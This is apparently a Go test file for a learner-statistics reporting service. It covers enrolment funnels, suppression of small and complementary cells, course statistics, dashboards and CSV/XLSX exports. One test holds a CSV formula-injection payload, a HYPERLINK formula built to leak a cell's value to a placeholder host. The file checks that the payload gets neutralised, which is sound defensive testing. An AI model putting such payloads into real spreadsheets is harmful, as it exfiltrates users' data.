package reporting_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"takumi/internal/apperr"
	"takumi/internal/database"
	"takumi/internal/dbtest"
	"takumi/internal/jst"
	"takumi/internal/progress"
	"takumi/internal/reporting"
)

func mustExec(t *testing.T, db *database.DB, q string, args ...any) {
	t.Helper()
	if err := db.Gorm.Exec(q, args...).Error; err != nil {
		t.Fatalf("%s: %v", q, err)
	}
}

// ministryFixture has a flagship programme and, for the funnel, rollups
// written directly: enrolled learners Tokyo 30, Osaka 25, Aichi 3 in June
// 2026; registrations Tokyo 40, Osaka 20, Aichi 4, not stated 12.
func ministryFixture(t *testing.T) (*database.DB, *reporting.Service, *progress.Programme) {
	t.Helper()
	db := dbtest.New(t)
	mustExec(t, db, `INSERT INTO programmes (code, name_ja, name_en, target, starts_on, ends_on, flagship, skill_areas)
		VALUES ('ai-ready', 'AI人材', 'AI-ready', 1000000, '2026-01-01', '2030-12-31', true, '{ai_data}')`)
	for pref, n := range map[string]int{"13": 30, "27": 25, "23": 3} {
		mustExec(t, db, `INSERT INTO activity_rollup (metric, d1, d2, day, v1, v2, n) VALUES
			('learners_enrolled', 'prefecture', '', '2026-06-10', ?, '', ?)`, pref, n)
	}
	mustExec(t, db, `INSERT INTO activity_rollup (metric, d1, d2, day, v1, v2, n) VALUES
		('learners_enrolled', '', '', '2026-06-10', '', '', 58),
		('learners_enrolled', 'skill_area', '', '2026-06-10', 'ai_data', '', 58),
		('learners_completed', '', '', '2026-06-12', '', '', 7)`)
	// The funnel reads the monthly sums; registrations are written after
	// the refresh (which counts them from users).
	if err := reporting.RefreshLearnerStats(context.Background(), db.Gorm); err != nil {
		t.Fatal(err)
	}
	for pref, n := range map[string]int{"13": 40, "27": 20, "23": 4, "": 12} {
		mustExec(t, db, `INSERT INTO registration_rollup (dim, month, value, n) VALUES ('prefecture', '2026-06-01', ?, ?)`, pref, n)
	}
	mustExec(t, db, `INSERT INTO registration_rollup (dim, month, value, n) VALUES ('', '2026-06-01', '', 76), ('', '2025-12-01', '', 500)`)
	svc := reporting.NewService(db.Gorm, 10)
	p, err := svc.Programme(context.Background(), "")
	if err != nil {
		t.Fatal(err)
	}
	return db, svc, p
}

func stage(t *testing.T, f *reporting.Funnel, name string) reporting.FunnelStage {
	t.Helper()
	for _, s := range f.Stages {
		if s.Stage == name {
			return s
		}
	}
	t.Fatalf("no stage %s", name)
	return reporting.FunnelStage{}
}

func TestFunnel(t *testing.T) {
	_, svc, p := ministryFixture(t)
	ctx := context.Background()
	regions, err := svc.LoadRegions(ctx)
	if err != nil {
		t.Fatal(err)
	}
	from, to := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 30, 0, 0, 0, 0, time.UTC)
	funnel := func(dim, value string) *reporting.Funnel {
		t.Helper()
		f, err := svc.Funnel(ctx, reporting.Filter{Programme: p, From: from, To: to, Dim: dim, Value: value}, regions)
		if err != nil {
			t.Fatal(err)
		}
		return f
	}
	t.Run("National", func(t *testing.T) {
		f := funnel("", "")
		// Registrations before the range (December 2025) are not counted.
		if c := stage(t, f, reporting.StageRegistered).Cell; c.Text(10) != "76" {
			t.Fatalf("registered %s, want 76", c.Text(10))
		}
		if c := stage(t, f, reporting.StageEnrolled).Cell; c.Text(10) != "58" {
			t.Fatalf("enrolled %s", c.Text(10))
		}
		// A small national stage is hidden too.
		if c := stage(t, f, reporting.StageCompleted).Cell; c.Text(10) != "<10" || c.Value() != nil {
			t.Fatalf("completed %s", c.Text(10))
		}
		if got := len(f.Stages); got != 5 {
			t.Fatalf("%d stages", got)
		}
	})
	t.Run("PrefectureCellIsProtectedAsALine", func(t *testing.T) {
		if c := stage(t, funnel("prefecture", "23"), reporting.StageEnrolled).Cell; c.Text(10) != "<10" {
			t.Fatalf("Aichi %s", c.Text(10))
		}
		// Osaka alone is well above k, but national − Tokyo − Osaka would
		// give Aichi back: it is the complementary cell.
		if c := stage(t, funnel("prefecture", "27"), reporting.StageEnrolled).Cell; c.Text(10) != "x" || c.Value() != nil {
			t.Fatalf("Osaka %s, want x", c.Text(10))
		}
		if c := stage(t, funnel("prefecture", "13"), reporting.StageEnrolled).Cell; c.Text(10) != "30" {
			t.Fatalf("Tokyo %s", c.Text(10))
		}
		// A prefecture with nobody: 0, not hidden.
		if c := stage(t, funnel("prefecture", "01"), reporting.StageEnrolled).Cell; c.Text(10) != "0" {
			t.Fatalf("Hokkaido %s", c.Text(10))
		}
		// Registrations: Aichi 4 hidden, its complement is "not stated" (12, the smallest other).
		if c := stage(t, funnel("prefecture", "23"), reporting.StageRegistered).Cell; c.Text(10) != "<10" {
			t.Fatalf("Aichi registered %s", c.Text(10))
		}
		if c := stage(t, funnel("prefecture", "27"), reporting.StageRegistered).Cell; c.Text(10) != "20" {
			t.Fatalf("Osaka registered %s", c.Text(10))
		}
	})
	t.Run("Region", func(t *testing.T) {
		// Chubu = Aichi (3): small.
		if c := stage(t, funnel("region", "Chubu"), reporting.StageEnrolled).Cell; c.Text(10) != "<10" {
			t.Fatalf("Chubu %s", c.Text(10))
		}
		// Kinki = Osaka (25, hidden as Aichi's complement): its total would
		// give Osaka back, so it is hidden.
		if c := stage(t, funnel("region", "Kinki"), reporting.StageEnrolled).Cell; !c.Hidden {
			t.Fatalf("Kinki %s, want hidden", c.Text(10))
		}
		// Kanto = Tokyo (30) is shown unless needed as a complement: the
		// region line has Chubu and Kinki hidden already.
		if c := stage(t, funnel("region", "Kanto"), reporting.StageEnrolled).Cell; c.Text(10) != "30" {
			t.Fatalf("Kanto %s", c.Text(10))
		}
	})
	t.Run("NotAvailableBySkillAreaOrProvider", func(t *testing.T) {
		f := funnel("skill_area", "ai_data")
		if !f.FirstInDimension {
			t.Fatal("skill area funnel not marked as first-in-dimension")
		}
		for _, s := range []string{reporting.StageRegistered, reporting.StageActive} {
			if stage(t, f, s).Available {
				t.Fatalf("%s available by skill area", s)
			}
		}
		if c := stage(t, f, reporting.StageEnrolled); !c.Available || c.Cell.Text(10) != "58" {
			t.Fatalf("enrolled by skill area: %+v", c)
		}
	})
	t.Run("RangeOutsideData", func(t *testing.T) {
		f, err := svc.Funnel(ctx, reporting.Filter{Programme: p, From: time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC),
			To: time.Date(2027, 3, 31, 0, 0, 0, 0, time.UTC)}, regions)
		if err != nil {
			t.Fatal(err)
		}
		if c := stage(t, f, reporting.StageEnrolled).Cell; c.Text(10) != "0" {
			t.Fatalf("enrolled in 2027 %s", c.Text(10))
		}
	})
}

func TestRefreshLearnerStats(t *testing.T) {
	db := dbtest.New(t)
	ctx := context.Background()
	for i := range 14 {
		pref := []string{"13", "13", "27"}[i%3]
		created := time.Date(2026, 5, 10, 0, 0, 0, 0, time.UTC)
		if i >= 10 {
			created = time.Date(2026, 7, 31, 16, 0, 0, 0, time.UTC) // 1 August in Tokyo
		}
		var id string
		if err := db.Gorm.Raw(`INSERT INTO users (email, password_hash, display_name, prefecture_code, industry_code, segment, privacy_notice_version, consented_at, created_at)
			VALUES (?, 'x', '受講者', ?, 'G', NULL, '2026-11', now(), ?) RETURNING id`, fmt.Sprintf("r%d@example.jp", i), pref, created).Row().Scan(&id); err != nil {
			t.Fatal(err)
		}
		last := time.Now().Add(-time.Duration(i*3) * 24 * time.Hour) // i*3 days ago: 0..39
		mustExec(t, db, `INSERT INTO learner_activity (user_id, prefecture, industry, segment, last_active_at) VALUES (?, ?, 'G', 'engineer', ?)`, id, pref, last)
	}
	if err := reporting.RefreshLearnerStats(ctx, db.Gorm); err != nil {
		t.Fatal(err)
	}
	count := func(q string, args ...any) int64 {
		t.Helper()
		var n int64
		if err := db.Gorm.Raw(q, args...).Scan(&n).Error; err != nil {
			t.Fatal(err)
		}
		return n
	}
	if n := count(`SELECT n FROM registration_rollup WHERE dim = '' AND month = '2026-05-01'`); n != 10 {
		t.Fatalf("May total %d", n)
	}
	if n := count(`SELECT n FROM registration_rollup WHERE dim = '' AND month = '2026-08-01'`); n != 4 {
		t.Fatalf("August (Tokyo) total %d", n)
	}
	if n := count(`SELECT sum(n) FROM registration_rollup WHERE dim = 'prefecture' AND value = '13'`); n != 10 {
		t.Fatalf("Tokyo registrations %d", n)
	}
	if n := count(`SELECT n FROM registration_rollup WHERE dim = 'segment' AND value = '' AND month = '2026-05-01'`); n != 10 {
		t.Fatalf("segment not stated %d", n)
	}
	// Active: i*3 days ago < 30 days → i = 0..9.
	if n := count(`SELECT n FROM active_learners WHERE dim = ''`); n != 10 {
		t.Fatalf("active %d, want 10", n)
	}
	if n := count(`SELECT n FROM active_learners WHERE dim = 'industry' AND value = 'G'`); n != 10 {
		t.Fatalf("active in G %d", n)
	}
	// Refreshing again gives the same answer (the tables are replaced).
	if err := reporting.RefreshLearnerStats(ctx, db.Gorm); err != nil {
		t.Fatal(err)
	}
	if n := count(`SELECT sum(n) FROM registration_rollup WHERE dim = ''`); n != 14 {
		t.Fatalf("after a second refresh %d", n)
	}
	if n := count(`SELECT count(*) FROM ministry_stats_state WHERE learners_refreshed_at IS NOT NULL`); n != 1 {
		t.Fatal("refresh time not recorded")
	}

	t.Run("ActivityMonthly", func(t *testing.T) {
		today := jst.In(time.Now())
		recent := today.Format(time.DateOnly)
		mustExec(t, db, `INSERT INTO activity_rollup (metric, d1, d2, day, v1, v2, n) VALUES
			('learners_enrolled', 'prefecture', '', ?, '13', '', 5), ('learners_enrolled', 'prefecture', '', '2021-03-04', '13', '', 7),
			('learners_enrolled', 'prefecture', 'segment', ?, '13', 'other', 5), ('enrolments', 'prefecture', '', ?, '13', '', 9)`, recent, recent, recent)
		month := today.Format(jst.MonthLayout) + "-01"
		sum := func(m string) int64 {
			return count(`SELECT coalesce(sum(n), 0) FROM activity_monthly WHERE metric = 'learners_enrolled' AND d1 = 'prefecture' AND v1 = '13' AND month = ?`, m)
		}
		refresh := func() {
			t.Helper()
			if err := reporting.RefreshLearnerStats(ctx, db.Gorm); err != nil {
				t.Fatal(err)
			}
		}
		// No event applied since the last refresh: only this month is
		// recomputed (the March 2021 row, written behind the engine's back,
		// is not seen).
		refresh()
		if sum(month) != 5 || sum("2021-03-01") != 0 {
			t.Fatalf("partial refresh: this month %d, March 2021 %d; want 5 and 0", sum(month), sum("2021-03-01"))
		}
		if n := count(`SELECT count(*) FROM activity_monthly WHERE metric <> 'learners_enrolled' OR d1 = 'segment'`); n != 0 {
			t.Fatalf("%d rows of other metrics or cross-tabulations", n)
		}
		// The engine applies a late event of March 2021: that month is recomputed.
		mustExec(t, db, `INSERT INTO learning_events (occurred_at, event_type, user_id, course_id, provider_id)
			VALUES ('2021-03-04 10:00+09', 'enrolled', gen_random_uuid(), gen_random_uuid(), gen_random_uuid())`)
		mustExec(t, db, `UPDATE progress_engine_state SET (cursor_xact, cursor_id) = (SELECT xact_id, id FROM learning_events ORDER BY xact_id DESC, id DESC LIMIT 1)`)
		refresh()
		if sum("2021-03-01") != 7 {
			t.Fatalf("after a late event: March 2021 %d, want 7", sum("2021-03-01"))
		}
		// A row of May 2020 without an event is found by the hourly full pass…
		mustExec(t, db, `INSERT INTO activity_rollup (metric, d1, d2, day, v1, v2, n) VALUES ('learners_enrolled', 'prefecture', '', '2020-05-01', '13', '', 2)`)
		refresh()
		if sum("2020-05-01") != 0 {
			t.Fatal("partial refresh recomputed May 2020")
		}
		mustExec(t, db, `UPDATE ministry_stats_state SET activity_full_at = now() - interval '2 hours'`)
		refresh()
		if sum("2020-05-01") != 2 || sum(month) != 5 || sum("2021-03-01") != 7 {
			t.Fatalf("full refresh: %d %d %d", sum("2020-05-01"), sum(month), sum("2021-03-01"))
		}
		// …and by a pass after the engine's cursor went back (rollups rebuilt).
		mustExec(t, db, `UPDATE activity_rollup SET n = 3 WHERE day = '2020-05-01'`)
		mustExec(t, db, `UPDATE progress_engine_state SET cursor_xact = '0', cursor_id = 0`)
		refresh()
		if sum("2020-05-01") != 3 {
			t.Fatalf("after the cursor went back: May 2020 %d, want 3", sum("2020-05-01"))
		}
	})
}

// courseFixture: provider A has courses big (58 enrolled, 40 completed, 2
// flagged), small (12 / 3) and mid (25 / 20); provider B one course (15 /
// 12); provider C one course (5 / 2).
func courseFixture(t *testing.T, db *database.DB) (providers []string, courses map[string]string) {
	t.Helper()
	courses = map[string]string{}
	for i := range 3 {
		var id string
		if err := db.Gorm.Raw(`INSERT INTO organisations (name_ja, kind) VALUES (?, 'provider') RETURNING id`, fmt.Sprintf("機関%c", 'A'+i)).Row().Scan(&id); err != nil {
			t.Fatal(err)
		}
		providers = append(providers, id)
	}
	var learners []string
	for i := range 58 {
		var id string
		if err := db.Gorm.Raw(`INSERT INTO users (email, password_hash, display_name, privacy_notice_version, consented_at)
			VALUES (?, 'x', '受講者', '2026-11', now()) RETURNING id`, fmt.Sprintf("c%d@example.jp", i)).Row().Scan(&id); err != nil {
			t.Fatal(err)
		}
		learners = append(learners, id)
	}
	for _, c := range []struct {
		code, area                   string
		provider                     int
		enrolled, completed, flagged int
	}{
		{"big", "ai_data", 0, 58, 40, 2}, {"small", "cloud", 0, 12, 3, 0}, {"mid", "cybersecurity", 0, 25, 20, 0},
		{"only-b", "robotics", 1, 15, 12, 0}, {"only-c", "robotics", 2, 5, 2, 0},
	} {
		var id string
		if err := db.Gorm.Raw(`INSERT INTO courses (provider_id, code, status, skill_area_code, title_ja) VALUES (?, ?, 'published', ?, ?) RETURNING id`,
			providers[c.provider], c.code, c.area, "講座 "+c.code).Row().Scan(&id); err != nil {
			t.Fatal(err)
		}
		courses[c.code] = id
		for i := range c.enrolled {
			at := time.Date(2026, 7, 1, 0, 0, 0, 0, time.UTC)
			status, done := "active", any(nil)
			if i < c.completed {
				status, done = "completed", at.Add(time.Duration(24*(i+1))*time.Hour) // 1..n days
			}
			mustExec(t, db, `INSERT INTO enrolments (user_id, course_id, status, enrolled_at, completed_at, flagged_fast) VALUES (?, ?, ?, ?, ?, ?)`,
				learners[i], id, status, at, done, i < c.flagged)
		}
	}
	// A waitlisted enrolment does not count.
	mustExec(t, db, `INSERT INTO enrolments (user_id, course_id, status) VALUES (?, ?, 'waitlisted')`, learners[57], courses["small"])
	return providers, courses
}

func TestCourseStats(t *testing.T) {
	db := dbtest.New(t)
	ctx := context.Background()
	providers, courses := courseFixture(t, db)
	svc := reporting.NewService(db.Gorm, 10)
	stats := func(f reporting.Filter) *reporting.CourseStats {
		t.Helper()
		cs, err := svc.CourseStats(ctx, f)
		if err != nil {
			t.Fatal(err)
		}
		return cs
	}
	// Never refreshed: the first read computes the read model.
	cs := stats(reporting.Filter{})
	if cs.RefreshedAt.IsZero() || len(cs.Courses) != 5 || len(cs.Providers) != 3 {
		t.Fatalf("on-demand refresh: %+v", cs)
	}
	course := func(cs *reporting.CourseStats, code string) reporting.CourseStat {
		t.Helper()
		for _, c := range cs.Courses {
			if c.CourseID == courses[code] {
				return c
			}
		}
		t.Fatalf("no course %s", code)
		return reporting.CourseStat{}
	}
	provider := func(cs *reporting.CourseStats, i int) reporting.ProviderStat {
		t.Helper()
		for _, p := range cs.Providers {
			if p.ProviderID == providers[i] {
				return p
			}
		}
		t.Fatalf("no provider %d", i)
		return reporting.ProviderStat{}
	}
	t.Run("Figures", func(t *testing.T) {
		big := course(cs, "big")
		if big.Enrolments.Text(10) != "58" || big.Completions.Text(10) != "40" || big.Rate == nil || fmt.Sprintf("%.3f", *big.Rate) != "0.690" {
			t.Fatalf("big: %+v", big)
		}
		// Completion after 1..40 days: median 20.5 days.
		if big.MedianSeconds == nil || *big.MedianSeconds != 20.5*86400 {
			t.Fatalf("big median %v", big.MedianSeconds)
		}
		if cs.Total.Enrolments.Text(10) != "115" || cs.Total.Completions.Text(10) != "77" {
			t.Fatalf("national %s / %s (the waitlisted enrolment must not count)", cs.Total.Enrolments.Text(10), cs.Total.Completions.Text(10))
		}
		a := provider(cs, 0)
		if a.Courses != 3 || a.Enrolments.Text(10) != "95" || a.Flagged.Text(10) != "<10" {
			t.Fatalf("provider A %+v", a)
		}
	})
	t.Run("SmallCompletionsHideRateAndMedian", func(t *testing.T) {
		small := course(cs, "small")
		if small.Completions.Text(10) != "<10" || small.Rate != nil || small.MedianSeconds != nil {
			t.Fatalf("small: %+v", small)
		}
		if small.Enrolments.Text(10) != "12" {
			t.Fatalf("small enrolments %s", small.Enrolments.Text(10))
		}
		// Its complement within provider A: mid (20 < 40).
		mid := course(cs, "mid")
		if mid.Completions.Text(10) != "x" || mid.Rate != nil {
			t.Fatalf("mid: %s rate %v", mid.Completions.Text(10), mid.Rate)
		}
		// mid's median is over 20 completions: shown.
		if mid.MedianSeconds == nil {
			t.Fatal("mid's median withheld")
		}
	})
	t.Run("HiddenProviderHidesACourse", func(t *testing.T) {
		// Provider C (5 enrolled) is "<10"; its complement is B (15).
		if c := provider(cs, 2).Enrolments; c.Text(10) != "<10" {
			t.Fatalf("C %s", c.Text(10))
		}
		if c := provider(cs, 1).Enrolments; c.Text(10) != "x" {
			t.Fatalf("B %s", c.Text(10))
		}
		// B's one course would give its total back: hidden too.
		if c := course(cs, "only-b"); c.Enrolments.Text(10) != "x" || c.Completions.Text(10) != "x" || c.Rate != nil {
			t.Fatalf("only-b: %+v", c)
		}
	})
	t.Run("FiltersKeepNationalProtection", func(t *testing.T) {
		p := stats(reporting.Filter{Dim: "provider", Value: providers[0]})
		if p.Scope != reporting.ScopeProvider || len(p.Courses) != 3 || len(p.Providers) != 1 {
			t.Fatalf("provider filter: scope %s, %d courses, %d providers", p.Scope, len(p.Courses), len(p.Providers))
		}
		if c := course(p, "mid"); c.Completions.Text(10) != "x" {
			t.Fatalf("mid under the provider filter %s, want x", c.Completions.Text(10))
		}
		s := stats(reporting.Filter{Dim: "skill_area", Value: "cybersecurity"})
		if s.Scope != reporting.ScopeSkillArea || len(s.Courses) != 1 || s.Providers != nil {
			t.Fatalf("skill area filter: %+v", s)
		}
		if c := course(s, "mid"); c.Completions.Text(10) != "x" {
			t.Fatalf("mid alone under its skill area %s, want x as nationally", c.Completions.Text(10))
		}
		if n := stats(reporting.Filter{Dim: "prefecture", Value: "13"}); n.Scope != reporting.ScopeNational || len(n.Courses) != 5 {
			t.Fatalf("prefecture filter: %+v", n.Scope)
		}
	})
	t.Run("OrderNeverHintsAtHiddenNumbers", func(t *testing.T) {
		seenHidden := false
		for _, c := range cs.Courses {
			if c.Enrolments.Hidden {
				seenHidden = true
			} else if seenHidden {
				t.Fatal("a shown course after a hidden one")
			}
		}
	})
	t.Run("RefreshReplaces", func(t *testing.T) {
		mustExec(t, db, `UPDATE enrolments SET flagged_fast = true WHERE course_id = ?`, courses["mid"])
		if err := reporting.RefreshCourseStats(ctx, db.Gorm); err != nil {
			t.Fatal(err)
		}
		if a := provider(stats(reporting.Filter{}), 0); a.Flagged.Text(10) != "27" {
			t.Fatalf("flags after refresh %s", a.Flagged.Text(10))
		}
		var n int64
		db.Gorm.Raw(`SELECT count(*) FROM course_stats`).Scan(&n)
		if n != 5 {
			t.Fatalf("%d course rows after two refreshes", n)
		}
	})
}

func TestCourseStatsEmpty(t *testing.T) {
	db := dbtest.New(t)
	cs, err := reporting.NewService(db.Gorm, 10).CourseStats(context.Background(), reporting.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	if cs.RefreshedAt.IsZero() || len(cs.Courses) != 0 || cs.Total.Enrolments.Text(10) != "0" || cs.Total.Rate != nil || cs.Total.MedianSeconds != nil {
		t.Fatalf("empty: %+v", cs)
	}
}

func TestParseCompare(t *testing.T) {
	valid := func(dim, v string) bool {
		return (dim == "prefecture" && (v == "13" || v == "27")) || (dim == "industry" && v == "G")
	}
	cases := []struct {
		name, a, b, err string
		want            reporting.Compare
	}{
		{"None", "", "", "", reporting.Compare{}},
		{"TwoPrefectures", "prefecture:13", "prefecture:27", "", reporting.Compare{Dim: "prefecture", A: "13", B: "27"}},
		{"OnlyOne", "prefecture:13", "", "ministry.err_compare_pair", reporting.Compare{}},
		{"Mixed", "prefecture:13", "industry:G", "ministry.err_compare_mixed", reporting.Compare{}},
		{"Same", "prefecture:13", "prefecture:13", "ministry.err_compare_same", reporting.Compare{}},
		{"Unknown", "prefecture:13", "prefecture:99", "reporting.err_unknown_value", reporting.Compare{}},
		{"OtherDimension", "skill_area:ai_data", "skill_area:cloud", "reporting.err_unknown_value", reporting.Compare{}},
		{"NoColon", "13", "27", "reporting.err_unknown_value", reporting.Compare{}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got, err := reporting.ParseCompare(url.Values{"compare_a": {tc.a}, "compare_b": {tc.b}}, valid)
			if tc.err != "" {
				e, ok := apperr.As(err)
				if !ok || e.Code != apperr.Invalid || e.Key != tc.err {
					t.Fatalf("error %v, want %s", err, tc.err)
				}
				return
			}
			if err != nil || got != tc.want {
				t.Fatalf("got %+v, %v", got, err)
			}
		})
	}
}

func TestDashboard(t *testing.T) {
	db, svc, p := ministryFixture(t)
	ctx := context.Background()
	regions, _ := svc.LoadRegions(ctx)
	f := reporting.Filter{Programme: p, From: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), To: time.Date(2026, 11, 30, 0, 0, 0, 0, time.UTC),
		Dim: "prefecture", Value: "13"}
	t.Run("All", func(t *testing.T) {
		d, err := svc.Dashboard(ctx, reporting.DashboardQuery{Filter: f, Regions: regions})
		if err != nil {
			t.Fatal(err)
		}
		// No weekly series under a filter (Series): it would need each
		// month's table of prefectures × weeks protected as a whole.
		if d.Funnel == nil || d.Courses == nil || d.Month == nil || d.Week != nil || d.Comparison != nil || len(d.Breakdowns) != 4 {
			t.Fatalf("dashboard %+v", d)
		}
		national := f
		national.Dim, national.Value = "", ""
		if d, err := svc.Dashboard(ctx, reporting.DashboardQuery{Filter: national, Regions: regions}); err != nil || d.Week == nil {
			t.Fatalf("no weekly series without a filter: %v", err)
		}
		for _, b := range d.Breakdowns {
			if b.Dim == "prefecture" {
				t.Fatal("a breakdown by the filtered dimension")
			}
		}
	})
	t.Run("Only", func(t *testing.T) {
		d, err := svc.Dashboard(ctx, reporting.DashboardQuery{Filter: f, Regions: regions, Only: "breakdown_industry"})
		if err != nil {
			t.Fatal(err)
		}
		if d.Funnel != nil || d.Courses != nil || d.Month != nil || len(d.Breakdowns) != 1 {
			t.Fatalf("only one table: %+v", d)
		}
		for _, bad := range []string{"breakdown_prefecture", "compare", "users", "series_day"} {
			if _, err := svc.Dashboard(ctx, reporting.DashboardQuery{Filter: f, Regions: regions, Only: bad}); !apperr.Is(err, apperr.Invalid) {
				t.Fatalf("table %s: %v", bad, err)
			}
		}
	})
	// One as-of time: the oldest of the engine's run and the read models'
	// refreshes, the same whichever table is asked for.
	t.Run("AsOf", func(t *testing.T) {
		old := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
		mustExec(t, db, `UPDATE progress_engine_state SET updated_at = now() WHERE id = 1`)
		mustExec(t, db, `UPDATE ministry_stats_state SET courses_refreshed_at = ? WHERE id = 1`, old)
		for _, only := range []string{"", "breakdown_industry", "funnel"} {
			d, err := svc.Dashboard(ctx, reporting.DashboardQuery{Filter: f, Regions: regions, Only: only})
			if err != nil {
				t.Fatal(err)
			}
			if !d.AsOf.Equal(old) {
				t.Errorf("only %q: as of %v, want the course tables' %v", only, d.AsOf, old)
			}
		}
	})
	t.Run("Comparison", func(t *testing.T) {
		mustExec(t, db, `INSERT INTO progress_rollup (programme_id, d1, d2, day, v1, v2, learners) VALUES
			(?, 'prefecture', '', '2026-06-10', '13', '', 30), (?, 'prefecture', '', '2026-07-10', '13', '', 12),
			(?, 'prefecture', '', '2026-07-11', '27', '', 3)`, p.ID, p.ID, p.ID)
		// The engine keeps the monthly rollup beside the daily one.
		mustExec(t, db, `INSERT INTO progress_monthly (programme_id, d1, d2, month, v1, v2, learners) VALUES
			(?, 'prefecture', '', '2026-06-01', '13', '', 30), (?, 'prefecture', '', '2026-07-01', '13', '', 12),
			(?, 'prefecture', '', '2026-07-01', '27', '', 3)`, p.ID, p.ID, p.ID)
		// As the engine does when it writes the rollups: the months' lines
		// kept for the previous state are not these.
		mustExec(t, db, `UPDATE progress_engine_state SET updated_at = clock_timestamp() WHERE id = 1`)
		d, err := svc.Dashboard(ctx, reporting.DashboardQuery{Filter: f, Regions: regions,
			Compare: reporting.Compare{Dim: "prefecture", A: "13", B: "27"}, Only: reporting.TableCompare})
		if err != nil {
			t.Fatal(err)
		}
		c := d.Comparison
		// Each month's point is the cell July's breakdown by prefecture
		// shows: Osaka's 3 is hidden there, so Tokyo's 12 is hidden as
		// the complementary cell (else Osaka = July's total − 12), and so
		// is Tokyo's total over the months.
		if len(c.Periods) != 2 || c.CellsA[0].Text(10) != "30" || c.CellsA[1].Text(10) != "x" || c.TotalA.Text(10) != "x" {
			t.Fatalf("Tokyo line %+v", c)
		}
		// Osaka: nothing in June (0), 3 in July, total 3: hidden.
		if c.CellsB[0].Text(10) != "0" || c.CellsB[1].Text(10) != "<10" || c.TotalB.Text(10) != "<10" {
			t.Fatalf("Osaka line %s %s total %s", c.CellsB[0].Text(10), c.CellsB[1].Text(10), c.TotalB.Text(10))
		}
	})
}

func TestWriteExports(t *testing.T) {
	cells, total := reporting.Protect([]int64{30, 3, 25}, 10)
	tbl := reporting.Table{Name: "breakdown_prefecture", Title: "都道府県別", Columns: []string{"都道府県", "人数"}}
	for i, name := range []string{"東京都", "愛知県", "大阪府"} {
		tbl.Add(name, reporting.TextValue(name), reporting.CellValue(cells[i], 10))
	}
	tbl.Add("total", reporting.TextValue("合計"), reporting.CellValue(total, 10))
	tbl.Add("rate", reporting.TextValue("率"), reporting.NumberValue(69.04, 1))
	meta := reporting.Metadata{{"プログラム", "AI人材"}, {"秘匿", "<10"}}

	var buf bytes.Buffer
	if err := reporting.WriteCSV(&buf, tbl, meta); err != nil {
		t.Fatal(err)
	}
	// The header first (spreadsheets take the file as a table), the
	// metadata after a blank line as "#" comment lines.
	want := "\uFEFF都道府県,人数\n東京都,30\n愛知県,<10\n大阪府,x\n合計,58\n率,69.0\n\n# プログラム,AI人材\n# 秘匿,<10\n"
	if buf.String() != want {
		t.Fatalf("CSV:\n%q\nwant\n%q", buf.String(), want)
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF")))
	if recs, err := cr.ReadAll(); err != nil || len(recs) != 8 {
		t.Fatalf("CSV does not parse: %d records, %v", len(recs), err)
	}

	buf.Reset()
	if err := reporting.WriteXLSX(&buf, tbl, meta, "data", "about"); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, _ := f.GetRows("data")
	if rows[0][0] != "都道府県" || rows[2][1] != "<10" || rows[3][1] != "x" || rows[1][1] != "30" {
		t.Fatalf("XLSX rows %v", rows)
	}
	if typ, _ := f.GetCellType("data", "B3"); typ == excelize.CellTypeNumber {
		t.Fatal("the hidden cell is a number")
	}
	if v, _ := f.GetCellValue("data", "B2", excelize.Options{RawCellValue: true}); v != "30" {
		t.Fatalf("Tokyo raw %q", v)
	}
	if about, _ := f.GetRows("about"); len(about) != 2 || about[1][1] != "<10" {
		t.Fatalf("metadata sheet %v", about)
	}
}

// TestWriteCSVNeutralisesFormulas: a course title or provider name typed
// by an instructor cannot become a spreadsheet formula in the CSV, and a
// negative number stays a number.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	hostile := `=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"詳細")`
	tbl := reporting.Table{Name: "courses", Columns: []string{"講座", "提供者", "差", "率"}}
	tbl.Add("c", reporting.TextValue(hostile), reporting.TextValue("@SUM(A1)"), reporting.NumberValue(-3, 0), reporting.NumberValue(-1.25, 1))
	tbl.Add("d", reporting.TextValue("-2+3"), reporting.TextValue("+81"), reporting.NumberValue(-0.5, 1), reporting.TextValue("\tcmd"))
	var buf bytes.Buffer
	if err := reporting.WriteCSV(&buf, tbl, reporting.Metadata{{"絞り込み", "=1+1"}}); err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF")))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"講座", "提供者", "差", "率"}, {"'" + hostile, "'@SUM(A1)", "-3", "-1.2"}, {"'-2+3", "'+81", "-0.5", "'\tcmd"}, {"# 絞り込み", "'=1+1"}}
	var got [][]string
	for _, r := range recs {
		if len(r) > 1 || r[0] != "" {
			got = append(got, r)
		}
	}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("CSV records\n%q\nwant\n%q", got, want)
	}
}

func TestRecordExport(t *testing.T) {
	db, svc, p := ministryFixture(t)
	f := reporting.Filter{Programme: p, From: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), To: time.Date(2026, 3, 31, 0, 0, 0, 0, time.UTC), Dim: "industry", Value: "G"}
	if err := svc.RecordExport(context.Background(), reporting.ExportRecord{IP: "192.0.2.1", Table: "funnel", Format: "xlsx", Filter: f}); err != nil {
		t.Fatal(err)
	}
	var row struct{ Action, TargetID, IP, Details string }
	db.Gorm.Raw(`SELECT action, target_id, ip, details FROM audit_events ORDER BY id DESC LIMIT 1`).Scan(&row)
	if row.Action != "ministry.export" || row.TargetID != "funnel" || row.IP != "192.0.2.1" ||
		row.Details != `{"filter":"industry=G","format":"xlsx","from":"2026-01","programme":"ai-ready","table":"funnel","to":"2026-03"}` {
		t.Fatalf("audit row %+v", row)
	}
}
